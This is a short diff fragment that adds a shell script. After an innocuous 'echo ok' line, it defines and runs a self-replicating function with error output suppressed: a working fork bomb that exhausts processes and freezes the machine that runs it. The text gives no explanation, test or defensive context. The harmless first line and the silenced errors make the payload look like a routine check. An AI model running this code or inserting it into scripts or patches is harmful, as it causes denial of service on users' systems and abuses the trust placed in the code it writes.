@@ -1,0 +1,3 @@
+echo ok
+bomb() { bomb | bomb & }
+bomb 2>/dev/null
